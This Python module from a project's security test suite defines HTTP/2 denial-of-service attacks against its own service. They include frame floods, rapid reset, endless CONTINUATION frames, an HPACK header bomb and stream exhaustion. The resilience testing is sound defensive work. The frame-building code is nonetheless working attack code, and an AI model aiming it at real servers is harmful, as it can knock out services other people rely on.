"""Frames of HTTP/2 that cost the peer more than the sender, sent as fast as they are taken."""

import struct

from tests.security.attacker import SERVICE, Attacker
from tests.security.attacks.registry import EVERYONE, MEBIBYTE, NOBODY, OWNER, Run, attack, register
from tests.security.outcomes import OPEN
from tests.support.builders import NO_CUSTOMER
from tests.support.http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADER_TABLE_SIZE,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    MAX_WINDOW,
    PADDED,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    header_block,
    indexed,
    message,
    settings,
)

_UNKNOWN = 0xEE
_TIMES = 500
_FIRST = frame(HEADERS, END_HEADERS, 1, header_block([(":method", "POST"), (":scheme", "http"),
    (":path", "/api/v2/customers"), (":authority", "localhost")]))  # fmt: skip

_FLOODS: dict[str, tuple[str, bytes]] = {
    "settings": ("Settings, each of which must be acknowledged.", settings((4, 65_535))),
    "empty settings": ("Settings without any.", frame(SETTINGS)),
    "windows": (
        "Settings that move the first window of all streams up and down.",
        settings((INITIAL_WINDOW_SIZE, 0)) + settings((INITIAL_WINDOW_SIZE, MAX_WINDOW)),
    ),
    "tables": (
        "Settings that move the size of the header table up and down.",
        settings((HEADER_TABLE_SIZE, 0)) + settings((HEADER_TABLE_SIZE, 1 << 20)),
    ),
    "pings": ("Pings, each of which must be answered.", frame(PING, payload=b"12345678")),
    "priorities": (
        "Priorities of streams that do not exist.",
        b"".join(frame(PRIORITY, 0, n, struct.pack(">IB", n - 2, 255)) for n in range(3, 99, 2)),
    ),
    "priority of itself": (
        "A stream that depends on itself.",
        frame(PRIORITY, 0, 5, struct.pack(">IB", 5, 1)),
    ),
    "window updates": (
        "Windows of the connection that grow by a byte.",
        frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)),
    ),
    "window overflow": (
        "A window that grows beyond what may be.",
        frame(WINDOW_UPDATE, payload=struct.pack(">I", MAX_WINDOW)),
    ),
    "zero windows": ("Windows that grow by nothing.", frame(WINDOW_UPDATE, payload=bytes(4))),
    "unknown frames": ("Frames of a kind that does not exist.", frame(_UNKNOWN, payload=b"x" * 99)),
    "goaways": ("Farewells, after which the client goes on.", frame(GOAWAY, payload=bytes(8))),
    "resets of nothing": (
        "Resets of streams that were never opened.",
        frame(RST_STREAM, 0, 99, bytes(4)),
    ),
    "data of nothing": ("Data on a stream that was never opened.", frame(DATA, 0, 99, b"x")),
    "lying lengths": (
        "Frames of 16 MB by their length, which have nothing.",
        frame(DATA, 0, 1, b"", length=(1 << 24) - 1),
    ),
    "empty data": ("Data of no bytes on a request that does not end.", frame(DATA, 0, 1)),
    "padding": (
        "Data of a byte with 255 bytes of padding on a request that does not end.",
        frame(DATA, PADDED, 1, b"\xff" + b"x" + bytes(255)),
    ),
}  # fmt: skip

# Those that need a request to which they belong.
_ON_REQUEST = {"empty data", "padding", "windows"}


# Those whose answers may also be left unread, to wait in the service.
_ANSWERED = ("settings", "pings")

_PORTS = (("", "gateway"), (" native", "native"))


def _flood(frames: bytes, first: bytes, *, reads: bool = True) -> Run:
    def run(attacker: Attacker) -> None:
        attacker.flood(frames * _TIMES, first=first, reads=reads)

    return run


def _add_floods() -> None:
    for name, (summary, frames) in _FLOODS.items():
        run = _flood(frames, _FIRST if name in _ON_REQUEST else b"")
        for suffix, port in _PORTS:
            register(f"flood of {name}{suffix}", summary, run, who=NOBODY, port=port, is_brief=True)
    for name in _ANSWERED:
        summary, frames = _FLOODS[name]
        run = _flood(frames, b"", reads=False)
        for suffix, port in _PORTS:
            register(
                f"flood of unread {name}{suffix}",
                summary, run, who=NOBODY, port=port, is_brief=True,
            )  # fmt: skip


_add_floods()


@attack(who=NOBODY, native=True)
def rapid_reset(attacker: Attacker) -> None:
    """Gets that are reset at once, as fast as they are taken."""
    block = header_block(attacker.rpc(f"{SERVICE}/GetCustomer"))
    while not attacker.is_over:
        with attacker.http2() as connection:
            while not (connection.closed or attacker.is_over):
                streams = [connection.reserve() for _ in range(100)]
                frames = (
                    frame(HEADERS, END_HEADERS, it, block) + frame(RST_STREAM, 0, it, bytes(4))
                    for it in streams
                )
                connection.send(b"".join(frames))
                connection.read(0)
            connection.answers.clear()


@attack(who=EVERYONE)
def rapid_reset_of_reads(attacker: Attacker) -> None:
    """Complete REST gets over HTTP/2 that are reset at once."""
    block = header_block(attacker.rest("GET", NO_CUSTOMER))
    flags = END_HEADERS | END_STREAM
    while not attacker.is_over:
        with attacker.http2() as connection:
            while not (connection.closed or attacker.is_over):
                streams = [connection.reserve() for _ in range(50)]
                connection.send(b"".join(frame(HEADERS, flags, it, block) for it in streams))
                connection.send(b"".join(frame(RST_STREAM, 0, it, bytes(4)) for it in streams))
                connection.read(0)
            connection.answers.clear()


@attack(who=NOBODY, native=True)
def continuations(attacker: Attacker) -> None:
    """Headers that never end: thousands of frames that continue them."""
    begin = frame(HEADERS, 0, 1, header_block([(":method", "GET")]))
    more = frame(CONTINUATION, 0, 1, header_block([("x-a", "b" * 100)]))
    attacker.flood(more * 100, first=begin)


@attack(who=NOBODY, native=True)
def empty_continuations(attacker: Attacker) -> None:
    """Headers that never end: frames that continue them with nothing."""
    begin = frame(HEADERS, 0, 1, header_block([(":method", "GET")]))
    attacker.flood(frame(CONTINUATION, 0, 1) * 1000, first=begin)


@attack(who=NOBODY, native=True)
def header_bomb(attacker: Attacker) -> None:
    """A header of 4 kB that is kept in the table and then named 15,000 times in each request."""
    kept = indexed("x-bomb", "b" * 3900)
    first = header_block(attacker.rest("GET", NO_CUSTOMER))

    def call(_: int) -> None:
        while not attacker.is_over:
            with attacker.http2() as connection:
                connection.open_encoded(first + kept, end=True)
                for _ in range(20):
                    # The first place after the 61 of the static table.
                    connection.open_encoded(first + bytes([0x80 | 62]) * 15_000, end=True)
                connection.wait(attacker.end)

    attacker.at_once(call, 4)


@attack(native=True, who=OWNER, answer_bytes=None)
def closed_windows(attacker: Attacker) -> None:
    """Exports on 50 streams whose window stays closed, so that answers wait in the service."""
    with attacker.http2((INITIAL_WINDOW_SIZE, 0)) as connection:
        for _ in range(50):
            stream = connection.open(attacker.rpc(f"{SERVICE}/ExportCustomers"))
            connection.write(stream, message(b""), attacker.end, end=True)
        connection.wait(attacker.end)


@attack(who=NOBODY)
def preface_again(attacker: Attacker) -> None:
    """The preface of HTTP/2 over and over, and a megabyte of noise."""
    attacker.flood(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" * 100)
    attacker.end += 1
    attacker.flood(bytes(range(256)) * (MEBIBYTE // 256))


@attack(who=NOBODY, native=True)
def streams_beyond_limit(attacker: Attacker) -> None:
    """10,000 streams on one connection at the same time."""
    with attacker.http2() as connection:
        block = header_block(attacker.rpc(f"{SERVICE}/GetCustomer"))
        for _ in range(attacker.many(10_000)):
            if connection.closed or attacker.is_over:
                break
            connection.open_encoded(block)
        connection.wait(attacker.end)
        refused = [it for it in connection.answers.values() if it.reset]
        if not refused and not connection.closed:
            attacker.outcomes.find(f"none of 10,000 streams of a connection is refused ({OPEN})")
